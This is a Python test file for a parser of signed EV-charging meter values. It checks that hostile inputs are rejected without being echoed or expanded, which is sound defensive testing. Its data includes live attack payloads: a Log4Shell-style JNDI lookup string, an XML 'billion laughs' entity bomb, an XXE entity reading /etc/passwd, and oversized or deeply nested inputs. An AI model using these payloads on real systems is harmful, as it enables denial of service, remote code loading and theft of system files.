"""Hostile text in the place of signed values: one named reason, nothing of it repeated, whatever format it pretends to be.

Nothing is timed: texts are bounded before anything is read, and every reader passes over them a fixed number of times.
Cases are as long as a text may be, so that a reader whose time grows with the square of it would hang here.
"""

import base64
import json

import pytest

from streams.signed.carriage import records_in
from streams.signed.check import claimed_key
from streams.signed.container import values_in
from streams.signed.keys import read_key
from streams.signed.record import MAX_BYTES, CannotJudge, unreadable
from tests.streams.ocmf_meter import OcmfMeter, begin
from tests.streams.signed.chargeit_meter import bsm, container, emh
from vocabulary.signatures import SignatureReason

UNREADABLE, UNKNOWN = SignatureReason.RECORD_UNREADABLE, SignatureReason.FORMAT_UNKNOWN
UNSUPPORTED = SignatureReason.ALGORITHM_UNSUPPORTED
MARK = "7bcf78ad${jndi:ldap://x/a}"
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a0 "'
    + MARK
    + '">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FULL = MAX_BYTES - 100
HOSTILE: dict[str, tuple[str, SignatureReason]] = {
    "nothing": ("", UNKNOWN),
    "blanks": (" \n" * (FULL // 2), UNKNOWN),
    "zeros": ("\0" * FULL, UNKNOWN),
    "zeros in hex": ("00" * (FULL // 2), UNKNOWN),
    "hex without end": ("a" * FULL, UNKNOWN),
    "megabytes": ("OCMF|" + "x" * 10_000_000, UNKNOWN),
    "megabytes of hex": ("4f" * 5_000_000, UNKNOWN),
    "half of a character": ("\ud800" * 1000, UNKNOWN),
    "a text to look up": (MARK, UNKNOWN),
    "base64 of base64 of base64": (base64.b64encode(base64.b64encode(base64.b64encode(b"OCMF|{}|{}"))).decode(), UNKNOWN),
    "entities that unfold, EDL_40_SIG": (BOMB + "<signedMeterValue>&a11;</signedMeterValue>", UNREADABLE),
    "entities that unfold, Mennekes": (BOMB + "<Billing>&a11;</Billing>", UNREADABLE),
    "an entity of a file": (OUTSIDE + "<signedMeterValue>&x;</signedMeterValue>", UNREADABLE),
    "XML nested deep": ("<signedMeterValue>" * (FULL // 18), UNREADABLE),
    "XML nested deep and closed": ("<signedMeterValue>" * 1700 + "</signedMeterValue>" * 1700, UNREADABLE),
    "attributes without end": ("<signedMeterValue " + " ".join(f'a{n}="{MARK}"' for n in range(1000)) + "/>", UNSUPPORTED),
    "angle brackets": ("<" * FULL + "signedMeterValue", UNREADABLE),
    "OCMF nested deep": ('OCMF|{"U":' + "[" * FULL, UNREADABLE),
    "OCMF of objects": ("OCMF|" + '{"U":' * (FULL // 5), UNREADABLE),
    "OCMF of bars": ("OCMF" + "|" * FULL, UNREADABLE),
    "OCMF of quotes": ("OCMF|" + '"' * FULL + "|{}", UNREADABLE),
    "OCMF of escapes": ('OCMF|{"U":"' + "\\u0061" * (FULL // 6), UNREADABLE),
    "OCMF of digits": ('OCMF|{"RD":[{"RU":"Wh","RV":' + "9" * FULL + '}]}|{"SD":""}', UNREADABLE),
    "OCMF with an exponent": ('OCMF|{"RD":[{"RU":"Wh","RV":1e999999999}]}|{"SD":""}', UNREADABLE),
    "OCMF with NaN": ('OCMF|{"RD":[{"RU":"Wh","RV":NaN}]}|{"SD":""}', UNREADABLE),
    "OCMF with keys twice": ('OCMF|{"MS":"' + MARK + '","MS":"x"}|{"SD":""}', UNREADABLE),
    "OCMF with a field of another type": ('OCMF|{"RD":"' + MARK + '"}|{"SD":""}', UNREADABLE),
    "OCMF of keys": ("OCMF|{" + ",".join(f'"k{n}":1' for n in range(6000)) + ",", UNREADABLE),
    "Alfen of semicolons": ("AP" + ";" * FULL, UNREADABLE),
    "Alfen of base32": ("AP;0;3;" + "A" * (FULL // 2) + ";" + "A" * (FULL // 3) + ";A;", UNREADABLE),
    "Alfen of text": (f"AP;0;3;{MARK};{MARK};{MARK};", UNREADABLE),
    "PCDF of brackets": ("128.8.0" + "(" * FULL, UNREADABLE),
    "PCDF of fields": ("128.8.0" + "(AA:)" * (FULL // 5), UNREADABLE),
    "PCDF of text": (f"128.8.0(ST:{MARK})(SG:00)", UNREADABLE),
    "chargeIT nested deep": ('{"signedMeterValues":' + "[" * FULL, UNREADABLE),
    "chargeIT with keys twice": ('{"signedMeterValues":[],"signedMeterValues":[]}', UNREADABLE),
    "chargeIT with an exponent": ('{"signedMeterValues":[{"measuredValue":{"value":1e999999999}}]}', UNREADABLE),
    "chargeIT of text": (json.dumps(container({"measurementId": MARK})), UNREADABLE),
    "SML without an end": ("1b1b1b1b01010101" + "76" * (FULL // 4), UNREADABLE),
    "SML of lists": ("1b1b1b1b01010101" + "f1" * (FULL // 4), UNREADABLE),
    "SML of lengths": ("1b1b1b1b01010101" + "ff" * (FULL // 4), UNREADABLE),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_has_one_verdict_and_is_not_repeated(name: str) -> None:
    text, reason = HOSTILE[name]
    with pytest.raises(CannotJudge) as problem:
        records_in(text)
    assert problem.value.reason is reason
    assert MARK[:8] not in str(problem.value) and len(problem.value.detail) <= 200


def _all_of(data: bytes) -> None:
    for value in values_in(data):
        records_in(value.text)
    raise unreadable("no value in it")


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_hold_nothing_or_hostile_values(name: str) -> None:
    text = HOSTILE[name][0]
    for data in (text.encode(errors="surrogatepass"), b"<values><value><signedData>" + text.encode(errors="surrogatepass")):
        with pytest.raises(CannotJudge) as problem:
            _all_of(data)
        assert MARK[:8] not in str(problem.value)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_key_is_none(name: str) -> None:
    with pytest.raises(ValueError) as problem:
        read_key(HOSTILE[name][0])
    assert MARK[:8] not in str(problem.value)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_text_as_a_meter_signed_it_is_inert(name: str) -> None:
    """Where a field may hold any text, it is kept as it is, and nothing of it is looked up, unfolded or read."""
    text, meter = HOSTILE[name][0][:500], OcmfMeter()
    written = meter.record(
        begin(TM=text, RI=text, ST=text, EF=text), GS=text, MS=text, ID=text, IT="EMAID", CI=text, CT="EVSEID", TT=text
    )
    if "|" in text or "\ud800" in text:
        with pytest.raises(CannotJudge):
            records_in(written)
        return
    (record,) = records_in(written)
    assert (record.meter, record.place) == (text.strip(), text.strip())
    assert MARK[:8] not in record.readings[0].detail


@pytest.mark.parametrize("make", [bsm, emh])
def test_a_hostile_key_in_a_record_is_a_claim_that_cannot_be_read(make: object) -> None:
    value = bsm() if make is bsm else emh()
    value["meterInfo"]["publicKey"] = MARK
    (record,) = records_in(json.dumps(value))
    with pytest.raises(CannotJudge) as problem:
        claimed_key(record, "")
    assert problem.value.reason is SignatureReason.KEY_UNREADABLE and MARK[:8] not in str(problem.value)
